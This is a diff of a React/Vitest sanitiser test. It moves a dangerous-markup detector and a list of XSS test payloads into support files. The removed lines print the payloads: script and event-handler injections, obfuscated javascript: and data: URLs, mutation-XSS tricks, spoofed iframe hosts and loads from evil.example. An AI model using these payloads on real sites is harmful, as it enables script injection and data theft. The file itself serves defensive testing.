@@ -2,90 +2,14 @@
 import { cleanup, render } from '@testing-library/react'
 import { afterEach, describe, expect, test } from 'vitest'
 import { ArticleBody, readBody } from '#content/article-body.tsx'
-import { embedHosts } from '#domain/embed-hosts.ts'
+import { dangersIn } from '../support/body-dangers.ts'
+import { attacks } from '../support/body-samples.ts'
 
 afterEach(cleanup)
 
 function draw(content: string): HTMLElement {
   return render(<ArticleBody body={readBody(content)} images={[]} title="Mirlo Dos" />).container
 }
-
-const FORBIDDEN =
-  'script, style, link, meta, base, form, input, button, textarea, select, object, embed, applet, svg, math, template, noscript, frame, frameset, portal, dialog'
-
-/** Everything in a drawn body that could act, load what it should not, or dress as the page. */
-function dangersIn(body: HTMLElement): string[] {
-  const elements = [...body.querySelectorAll('*')]
-  return [
-    ...[...body.querySelectorAll(FORBIDDEN)].map((element) => `<${element.localName}>`),
-    ...elements.flatMap((element) =>
-      element
-        .getAttributeNames()
-        .filter((name) => /^on|^style$|^srcdoc$|^formaction$|^is$|^slot$|^ping$|:/.test(name))
-        .map((name) => `${element.localName} ${name}`),
-    ),
-    ...elements.flatMap((element) =>
-      ['href', 'src', 'srcset', 'poster', 'cite'].flatMap((name) => {
-        // oxlint-disable-next-line no-control-regex -- browsers ignore them inside a scheme, so must this test
-        const address = (element.getAttribute(name) ?? '').replace(/[\u0000-\u0020]/g, '')
-        return /^(javascript|vbscript|data:text|data:image\/svg|blob|file):?/i.test(address)
-          ? [`${name} ${address}`]
-          : []
-      }),
-    ),
-    ...[...body.querySelectorAll('iframe')]
-      .filter((frame) => !embedHosts.has(new URL(frame.src).host) || !frame.src.startsWith('https:'))
-      .map((frame) => `iframe ${frame.src}`),
-  ]
-}
-
-const attacks = [
-  '<script>alert(1)</script>',
-  '<scr<script>ipt>alert(1)</scr</script>ipt>',
-  '<img src=x onerror=alert(1)>',
-  '<IMG SRC=x OnErRoR="alert(1)">',
-  '<img src="x` `<script>alert(1)</script>"` `>',
-  '<p onclick="alert(1)">hola</p>',
-  '<details open ontoggle=alert(1)><summary>x</summary></details>',
-  '<video autoplay onloadstart=alert(1)><source onerror=alert(1) src=x></video>',
-  '<a href="javascript:alert(1)">x</a>',
-  '<a href=" &#14; javascript:alert(1)">x</a>',
-  '<a href="jav&#x09;ascript:alert(1)">x</a>',
-  '<a href="JaVaScRiPt&colon;alert(1)">x</a>',
-  '<a href="vbscript:msgbox(1)">x</a>',
-  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
-  '<img src="javascript:alert(1)">',
-  '<iframe src="javascript:alert(1)"></iframe>',
-  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
-  '<iframe src="https://www.youtube.com.evil.example/embed/1"></iframe>',
-  '<iframe src="https://www.youtube.com@evil.example/embed/1"></iframe>',
-  '<iframe src="http://www.youtube.com/embed/1"></iframe>',
-  '<iframe src="//evil.example/"></iframe>',
-  '<iframe src="/article/1"></iframe>',
-  '<iframe name="x"></iframe>',
-  '<object data="javascript:alert(1)"></object>',
-  '<embed src="javascript:alert(1)">',
-  '<svg onload=alert(1)><use href="data:image/svg+xml,x#y"/></svg>',
-  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
-  '<svg><style><img src=x onerror=alert(1)></style></svg>',
-  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
-  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
-  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
-  '<style>@import url(https://evil.example/x.css)</style>',
-  '<p style="background:url(https://evil.example/x)">x</p>',
-  '<link rel="stylesheet" href="https://evil.example/x.css">',
-  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
-  '<base href="https://evil.example/">',
-  '<form action="https://evil.example"><input name=q><button formaction="javascript:alert(1)">x</button></form>',
-  '<a href="/" ping="https://evil.example">x</a>',
-  '<template><script>alert(1)</script></template>',
-  '<x-card is="y" onclick=alert(1)>x</x-card>',
-  '<!--><img src=x onerror=alert(1)>-->',
-  '[IMG:0|"><img src=x onerror=alert(1)>]',
-  '<p title="[IMG:0|"><script>alert(1)</script>]">x</p>',
-  '<table><caption><script>alert(1)</script></caption><tr><td onmouseover=alert(1)>1</td></tr></table>',
-  '<h2 id="x" onfocus=alert(1) tabindex=1>Lo mejor</h2>',
-]
 
 describe('decision 5: what could act is taken out of a body', () => {
   test.each(attacks)('%s', (attack) => {
